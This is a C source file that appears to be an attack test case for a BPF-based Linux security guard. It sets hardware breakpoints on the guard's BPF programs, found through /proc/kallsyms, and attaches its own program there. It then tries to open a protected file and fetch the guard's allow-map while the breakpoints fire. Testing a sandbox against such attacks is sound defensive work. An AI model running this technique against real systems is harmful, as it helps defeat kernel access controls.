// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Sets breakpoints of the processor on the code of the guard's programs and the victim's, with a program of its own that runs there where
 * that may be loaded, and asks for a map while they are hit.
 * Success: /victim/lsm opens, by the map or by a program that didn't run to its end.
 */
#include "bpf.h"
#include <linux/hw_breakpoint.h>
#include <linux/perf_event.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

/* As the kernel lists its symbols: bpf_prog_, the tag of the program, its name cut to fifteen characters. */
static const char *const programs[] = { "_hold_commands", "_hold_map", "_hold" };
#define COUNT (sizeof(programs) / sizeof(programs[0]))

static unsigned long address_of(const char *program)
{
	FILE *symbols = fopen("/proc/kallsyms", "re");
	unsigned long address, found = 0;
	char name[256];

	while (!found && symbols && fscanf(symbols, "%lx %*c %255s%*[^\n]", &address, name) == 2)
		if (strncmp(name, "bpf_prog_", 9) == 0 && strlen(name) == 9 + 16 + strlen(program) && strcmp(name + 9 + 16, program) == 0)
			found = address;
	if (symbols)
		fclose(symbols);
	return found;
}

static void run(void)
{
	struct program program = { .type = BPF_PROG_TYPE_PERF_EVENT };
	int events[COUNT], own = act("BPF_PROG_LOAD", LOAD(program, CALL(BPF_FUNC_get_smp_processor_id), SET(BPF_REG_0, 1), RETURN));
	bool are_hit = false;

	for (unsigned i = 0; i < COUNT; i++) {
		struct perf_event_attr event = { .type = PERF_TYPE_BREAKPOINT, .size = sizeof(event), .bp_type = HW_BREAKPOINT_X, .bp_len = sizeof(long), .sample_period = 1 };

		event.bp_addr = address_of(programs[i]);
		events[i] = -1;
		if (!event.bp_addr)
			continue;
		events[i] = must("perf_event_open", syscall(SYS_perf_event_open, &event, 0, -1, -1, PERF_FLAG_FD_CLOEXEC));
		if (own >= 0)
			act("PERF_EVENT_IOC_SET_BPF", ioctl(events[i], PERF_EVENT_IOC_SET_BPF, own));
	}
	for (int tries = 0; tries < 200; tries++) {
		int victim = open("/victim/lsm", O_RDONLY), map;

		if (victim >= 0)
			got("/victim/lsm opens at a breakpoint");
		map = by_id(BPF_MAP_GET_FD_BY_ID, id_of("victim/maps/allowed"), 0);
		if (map >= 0)
			close(map);
	}
	for (unsigned i = 0; i < COUNT; i++) {
		uint64_t times = 0;

		are_hit |= events[i] >= 0 && read(events[i], &times, sizeof(times)) == sizeof(times) && times;
	}
	if (!are_hit)
		impossible("no breakpoint is hit");
	spoil(map_of("victim/maps/allowed", 0));
}

ATTACK("sets breakpoints on the code of programs", .run = run);
